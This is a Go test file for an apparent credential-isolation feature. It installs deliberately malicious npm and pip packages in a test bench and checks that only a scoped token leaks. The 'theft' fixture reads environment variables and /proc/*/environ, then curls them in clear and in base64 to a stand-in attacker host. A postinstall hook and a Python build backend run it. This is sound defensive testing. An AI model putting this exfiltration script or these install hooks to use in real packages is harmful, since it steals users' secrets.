package isolation

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/starpod/caddy-starpod/internal/testbench"
)

// theft is what a package does when it is installed: it looks for secrets where they
// usually are, and sends them home in clear and in base64.
const theft = `{ env; cat /proc/[0-9]*/environ "$LOOT"; } >loot 2>/dev/null
	curl -q -sS --data-binary @loot https://` + evilName + `/clear; base64 loot | curl -q -sS --data-binary @- https://` + evilName + `/base64`

// installs are the recipes of docs/recipes.md for packages that nobody trusts, from
// a registry that wants a key.
var installs = []struct {
	name, script string
	installed    string // what there is afterwards
}{
	{
		name: "npm install", installed: "node_modules/demo/index.js",
		script: `echo '//` + apiName + `/npm/:_authToken=${API_KEY}' >.npmrc; echo '{"name":"here","version":"1.0.0"}' >package.json
			npm install --registry https://` + apiName + `/npm/ --no-audit --no-fund --no-update-notifier --loglevel=error --fetch-retries=0 --foreground-scripts demo`,
	},
	{
		name: "pip install", installed: "installed/demo.py",
		script: `printf 'machine ` + apiName + ` login token password %s\n' "$API_KEY" >.netrc; chmod 600 .netrc
			/usr/bin/python3 -m pip -q install --disable-pip-version-check --no-cache-dir --retries 0 --no-deps --target installed --index-url https://` + apiName + `/simple/ demo`,
	},
}

// TestInstalls installs packages that steal. What they get home are tokens.
func TestInstalls(t *testing.T) {
	w := newWorld(t)
	w.trustOnHost(t)
	w.serveClients(t)
	w.api.Handle("/npm/demo/-/demo-1.0.0.tgz", send(tarball(t, map[string]string{
		"package/package.json": `{"name":"demo","version":"1.0.0","scripts":{"postinstall":"sh thief.sh"}}`,
		"package/index.js":     "module.exports = 1\n", "package/thief.sh": theft,
	})))
	w.api.Handle("/simple/demo/{$}", page(`<a href="/simple/files/demo-1.0.0.tar.gz">demo-1.0.0.tar.gz</a>`))
	w.api.Handle("/simple/files/demo-1.0.0.tar.gz", send(tarball(t, map[string]string{
		"demo-1.0.0/PKG-INFO":       "Metadata-Version: 2.1\nName: demo\nVersion: 1.0.0\n",
		"demo-1.0.0/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"thief\"\nbackend-path = [\".\"]\n",
		"demo-1.0.0/thief.py":       pythonThief(t),
	})))
	for _, install := range installs {
		for _, isolation := range []string{"env", "sealed"} {
			t.Run(install.name+", "+isolation, func(t *testing.T) {
				w.api.Forget()
				dir, err := os.MkdirTemp(w.openDir, "")
				if err != nil {
					t.Fatal(err)
				}
				shell(t, `chown `+ordinaryID+` "$1"`, dir)
				cmd := w.run(t, true, []string{"--isolation", isolation, "--env-file", w.hiddenFile}, "timeout", "60", "sh", "-ec", install.script)
				cmd.Dir, cmd.Env = dir, append(cmd.Env, "HOME="+dir)
				if isolation == "sealed" { // where the file is hidden
					cmd.Env = append(cmd.Env, "LOOT="+w.hiddenFile)
				}
				out, err := cmd.CombinedOutput()
				if err != nil {
					t.Fatalf("got %v:\n%s", err, out)
				}
				if _, err := os.Stat(filepath.Join(dir, install.installed)); err != nil {
					t.Errorf("got no package: %v\n%s", err, out)
				}
				w.checkTheft(t, out)
			})
		}
	}
}

// checkTheft wants the key at the registry, and only a token with the thief.
func (w *world) checkTheft(t *testing.T, out []byte) {
	t.Helper()
	var registry []*testbench.Request
	home := make(map[string][]byte)
	for _, r := range w.api.Requests() {
		if r.Host != evilName {
			registry = append(registry, r)
			continue
		}
		home[r.Path] = r.Body
		if forms := testbench.FindSecret(r.Body, canary); len(forms) > 0 {
			t.Errorf("%s: the thief got the value as %v", r.Path, forms)
		}
	}
	if saw := credentials(registry); !strings.Contains(saw, canary) {
		t.Errorf("the registry got %q, want the key", saw)
	}
	if clear := home["/clear"]; !bytes.Contains(clear, []byte("API_KEY=\n")) {
		t.Errorf("in clear the thief got %q, want an empty key", clear)
	}
	loot, err := base64.StdEncoding.DecodeString(strings.ReplaceAll(string(home["/base64"]), "\n", ""))
	if err != nil || !bytes.Contains(loot, []byte("API_KEY=starpod:v1:")) {
		t.Errorf("in base64 the thief got %q (%v), want the token", loot, err)
	}
	if forms := testbench.FindSecret(append(out, loot...), canary); len(forms) > 0 {
		t.Errorf("the value was printed or stolen as %v:\n%s\n%s", forms, out, loot)
	}
}

// pythonThief is a build backend: it steals, and then makes the wheel.
func pythonThief(t *testing.T) string {
	t.Helper()
	quoted, err := json.Marshal(theft)
	if err != nil {
		t.Fatal(err)
	}
	return `import base64, os
def build_wheel(folder, settings=None, metadata=None):
    os.system(` + string(quoted) + `)
    with open(os.path.join(folder, "demo-1.0.0-py3-none-any.whl"), "wb") as f:
        f.write(base64.b64decode("` + base64.StdEncoding.EncodeToString(wheel(t)) + `"))
    return "demo-1.0.0-py3-none-any.whl"
`
}
